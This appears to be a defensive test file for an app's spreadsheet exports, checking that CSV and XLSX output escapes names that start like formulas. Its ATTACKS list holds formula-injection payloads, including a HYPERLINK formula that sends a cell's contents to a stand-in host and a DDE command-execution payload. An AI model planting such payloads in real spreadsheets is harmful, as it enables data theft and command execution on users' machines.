// Formula injection in every export the app writes for spreadsheets: the perimeters CSV,
// the indicators CSV, and the lists' CSV and XLSX (table-file.ts). A name that starts like a
// formula (`=`, `+`, `-`, `@`, tab, carriage return) never reaches a cell as a formula.
import { describe, expect, it } from "vitest";
import { computeAll } from "../../../src/domain/recompute.ts";
import { linkProjectToCommunes } from "../../../src/domain/spatial-links.ts";
import { parseCsv } from "../../../src/io/csv-text.ts";
import { exportIndicatorsCsv } from "../../../src/io/indicators-csv.ts";
import { exportPerimetersCsv } from "../../../src/io/perimeters-csv.ts";
import { tableToCsv, tableToXlsx } from "../../../src/io/table-file.ts";
import { inflateZipEntry, listZipEntries } from "../../../src/io/zip-archive.ts";
import { tinyProject, tinyTerritory } from "../../fixtures/tiny-territory.ts";

const ATTACKS = ['=HYPERLINK("http://exemple.invalid/?d="&A1;"clic")', "+33 1 23", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"];

/** Every cell of a CSV text as the app reads it back (the writer's apostrophe taken off). */
function readBack(text: string): string[] {
  const parsed = parseCsv(text.replace(/^\uFEFF/, ""));
  if (!parsed.ok) throw new Error(parsed.message);
  return parsed.rows.flatMap((row) => row.cells);
}

/** The guarded text of a cell in the CSV: an apostrophe in front of each attack. */
const expectGuarded = (csv: string) => {
  for (const attack of ATTACKS) {
    const quoted = /[;"\n\r]/.test(`'${attack}`) ? `"'${attack.replace(/"/g, '""')}"` : `'${attack}`;
    expect(csv).toContain(quoted);
  }
  // No cell of the file starts like a formula (negative numbers aside: they are numbers).
  for (const line of csv.replace(/^\uFEFF/, "").split("\r\n")) for (const cell of line.split(";")) expect(cell.replace(/^"/, "")).not.toMatch(/^([=+@]|-(?!\d+(,\d+)?$))/);
};

describe("aucune formule dans les exports pour tableur", () => {
  const territory = tinyTerritory();
  const hostileProject = () => {
    const project = tinyProject();
    project.facilitateurs.forEach((facilitateur, i) => (facilitateur.nom = ATTACKS[i % ATTACKS.length]!));
    project.structures.forEach((structure, i) => (structure.nom = ATTACKS[(i + 3) % ATTACKS.length]!));
    return project;
  };

  it("CSV des périmètres : chaque nom piégé commence par une apostrophe, et se relit tel quel", () => {
    const project = hostileProject();
    const csv = exportPerimetersCsv(territory.index, project);
    for (const facilitateur of project.facilitateurs) expect(readBack(csv)).toContain(facilitateur.nom);
    expect(csv).toContain(`"'=HYPERLINK(""http://exemple.invalid/?d=""&A1;""clic"")"`);
    expect(csv).not.toMatch(/(^|;|\r\n)(=|\+|-|@)/);
  });

  it("CSV des indicateurs : aucune cellule ne commence comme une formule", () => {
    const project = hostileProject();
    const csv = exportIndicatorsCsv(territory.index, project, computeAll(territory.index, project, { links: linkProjectToCommunes(territory.index, territory.shapes, project) }), "departement");
    expect(csv).not.toMatch(/(^|;|\r\n)(=|\+|@)/);
    expect(csv).not.toMatch(/(^|;|\r\n)-[^\d]/);
  });

  it("CSV des listes : apostrophe devant chaque texte piégé, nombres intacts", () => {
    const csv = tableToCsv({ title: "Liste", headers: ["Nom", "ETP"], rows: ATTACKS.map((attack, i) => [attack, -i - 0.5]) });
    expectGuarded(csv);
    expect(csv).toContain(";-0,5\r\n");
  });

  it("XLSX des listes : les textes piégés sont du texte, jamais une formule", async () => {
    const blob = await tableToXlsx({ title: "Liste", headers: ["Nom", "ETP"], rows: ATTACKS.map((attack, i) => [attack, i]) });
    const bytes = new Uint8Array(await blob.arrayBuffer());
    let xml = "";
    for (const entry of listZipEntries(bytes, 100).filter((candidate) => candidate.name.endsWith(".xml"))) {
      const decoder = new TextDecoder();
      await inflateZipEntry(bytes, entry, (chunk) => {
        xml += decoder.decode(chunk, { stream: true });
        return true;
      });
    }
    expect(xml).not.toMatch(/<(\w+:)?f[\s>]/);
    // Each text is a shared string (`t="s"`), shown as written.
    expect(xml).toContain('<t>=HYPERLINK("http://exemple.invalid/?d="&amp;A1;"clic")</t>');
    expect(xml).toContain("<t>@SUM(A1:A9)</t>");
  });
});
